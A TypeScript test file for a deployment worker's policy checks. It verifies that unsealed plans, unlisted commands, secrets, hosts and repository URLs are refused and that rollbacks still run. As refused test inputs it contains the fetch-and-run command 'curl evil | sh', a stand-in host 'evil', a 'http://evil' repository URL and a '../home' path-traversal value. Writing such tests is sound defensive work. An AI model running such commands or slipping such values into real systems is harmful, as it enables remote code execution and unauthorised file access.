/** What the policy of the moment refuses, also where it allowed it when the release was planned. */
import { beforeAll, describe, expect, test } from 'vitest';
import type { PolicyStore } from '../../../activities/trust/policy-store.js';
import type { Colour } from '../../../pipeline/plan.js';
import type { Target } from '../../../workflows/activity-contract.js';
import { givenPolicyStore } from '../../support/policies.js';
import { givenSealedRelease, type Name, type SealedRelease } from '../../support/sealed.js';
import { inputOf, OF_A_TARGET, useVouchingWorker } from '../../support/vouching-worker.js';

const { keys, begins, refusal } = useVouchingWorker();
let release: SealedRelease;
beforeAll(async () => {
  release = await givenSealedRelease(keys.ours, { policy: { rules: [] } });
});

const without = ({ seal: _seal, ...rest }: Target['plan']): Target['plan'] => rest;

describe('the policy of the moment', () => {
  test('runs and resolves nothing that only a stranger names, to look', async () => {
    const doctor = { what: 'doctor', step: null, host: null, lines: 1, live: null };
    const look = (change: Partial<Target['plan']>, what = 'doctor') => ({
      ...doctor,
      what,
      plan: {
        ...without(release.environment),
        platform: { kind: 'swarm', service: 'shop', fields: {} },
        traffic: null,
        ...change,
      },
    });
    const ask = (input: unknown) => refusal('inspectEnvironment', input, policyOf());
    const commands = { kind: 'command', restore: null, retire: null, on: 'worker' } as const;
    const platform = { ...commands, command: 'id', inspect: 'curl evil | sh' };
    const listing = policyOf('commands: [id]');
    expect(await refusal('inspectEnvironment', look({ platform }), listing)).toMatch(
      /command curl evil \| sh is not allowed/,
    );
    // which of them a look runs is for the look itself: test/activities/inspect.test.ts
    expect(await begins('inspectEnvironment', look({ platform }), policyOf())).toBe(true);
    expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
    expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
    expect(await ask({ ...doctor, plan: { ...release.environment, platform } })).toMatch(/changed after/);
    const live = { ...release.target, colour: '../home' as Colour, at: '', by: 'x' };
    expect(await ask({ ...look({}), live })).toMatch(/no such colour/);
    expect(await ask({ ...look({}), live: { ...live, version: 'v2' } })).toMatch(/is of v1\.0\.0/);
    const elsewhere = { ...look({ name: 'stage' }), live: { ...live, colour: 'blue' } };
    expect(await ask(elsewhere)).toMatch(/said to be live there is of shop prod/);
    expect(await begins('inspectEnvironment', look({}), policyOf())).toBe(true);
  });

  test('a look resolves what the live release was given, for the same and for nothing else', async () => {
    const secrets = { A: 'env:PROD_A' } as const;
    const { environment, target } = await givenSealedRelease(keys.ours, { policy: { rules: [] }, secrets });
    const live = { ...target, colour: 'blue' as const, at: '', by: 'x' };
    const question = { what: 'doctor', step: null, host: null, lines: 1, live };
    const look = (change: Partial<Target['plan']>) => ({
      ...question,
      plan: { ...without(environment), ...change },
    });
    expect(await begins('inspectEnvironment', look({ timeoutMs: 1 }), policyOf())).toBe(true);
    expect(await refusal('inspectEnvironment', { ...look({}), live: null }, policyOf())).toMatch(
      /secret env:PROD_A is not allowed to look at a file that was not released; release it/,
    );
    const elsewhere = { platform: { ...environment.platform, folder: '/elsewhere' } as never };
    const others = [
      elsewhere,
      { secrets: { B: 'env:PROD_A' } as const },
      { url: 'http://elsewhere.example' },
    ];
    for (const change of others)
      expect(await refusal('inspectEnvironment', look(change), policyOf())).toMatch(/PROD_A is not allowed/);
    expect(await refusal('inspectEnvironment', look({}), policyOf('secrets: []'))).toMatch(
      /PROD_A is not allowed;/,
    );
  });

  test('refuses what was planned before there was one, with its word for who approved', async () => {
    const before = await givenSealedRelease(keys.ours);
    const { target, prior } = before;
    expect(await refusal('deploy', { target, prior }, policyOf())).toMatch(/has become stricter/);
    expect(await begins('undoDeploy', { target, prior }, policyOf())).toBe(true);
  });

  const back: Name[] = ['claim', 'undoDeploy', 'stopHost', 'takeOver', 'retireColour', 'revertDatabase'];
  // and its way out: nobody has forged anything
  const again =
    /policy has become stricter.*; nothing was touched; slipway release v1\.0\.0 --to prod plans it again under the current policy$/;
  const owners = 'nothing was touched; change the pipeline file, or its owner changes pipelines.shop';
  const stricter: [string, string, RegExp][] = [
    ['more approvals', 'approvals: [{count: 1, by: unverified}]', again],
    ['other hosts', 'hosts: [deploy@web-1]', RegExp(`host deploy@web-2 is not allowed.*; ${owners}`)],
    ['other refs', 'from: {branch: main}', RegExp(`tag v1\\.0\\.0 is not allowed.*; ${owners}`)],
    ['a longer wait', 'wait: 1h', again],
  ];
  describe.each(stricter)('with %s', (_what, line, reason) => {
    test.each(OF_A_TARGET.filter((name) => !back.includes(name)))('%s refuses', async (name) => {
      expect(await refusal(name, inputOf(name, release), policyOf(line))).toMatch(reason);
    });

    test.each(back)('%s still goes back', async (name) => {
      expect(await begins(name, inputOf(name, release), policyOf(line))).toBe(true);
    });
  });

  test('allows what it allowed when it was planned', async () => {
    expect(await begins('deploy', inputOf('deploy', release), policyOf())).toBe(true);
  });

  test('keeps looks and fetches to what it names', async () => {
    const plan = release.environment;
    const look = { what: 'doctor', plan, step: null, host: null, lines: 1, live: null };
    expect(await begins('inspectEnvironment', look, policyOf())).toBe(true);
    expect(await begins('inspectEnvironment', look)).toBe(true);
    const unsealed = (change: Partial<Target['plan']>, what = 'doctor') => ({
      ...look,
      what,
      plan: { ...without(plan), ...change },
    });
    const evil = unsealed({ hosts: [{ name: 'evil', address: 'evil' }] });
    expect(await refusal('inspectEnvironment', evil, policyOf())).toMatch(/host evil is not allowed/);
    const strange = unsealed({ name: 'prod2' });
    expect(await refusal('inspectEnvironment', strange, policyOf())).toMatch(/no such environment/);
    const asked = { commit: 'a'.repeat(40), candidates: [] };
    expect(await begins('listAncestors', { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(
      true,
    );
    expect(await refusal('listAncestors', { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
      /does not allow it/,
    );
    for (const name of ['recordDeployment', 'setCommitStatus', 'commentOnPullRequest'] as const) {
      expect(await begins(name, { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(true);
      expect(await refusal(name, { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
        /does not allow it/,
      );
    }
  });

  test('refuses production where the policy was taken away', async () => {
    const gone: PolicyStore = { read: async () => null, isDemo: false };
    expect(await refusal('deploy', inputOf('deploy', release), gone)).toMatch(
      /is production, and this worker has no policy/,
    );
  });
});

/** One that allows the release as it was planned, but for one line. */
function policyOf(line = ''): PolicyStore {
  const hosts = line.startsWith('hosts:') ? '' : 'hosts: [deploy@web-1, deploy@web-2], ';
  const text = `pipelines: {shop: {repositories: [/srv/shop.git], environments: {prod: {${hosts}${line}}}}}`;
  return givenPolicyStore(text);
}
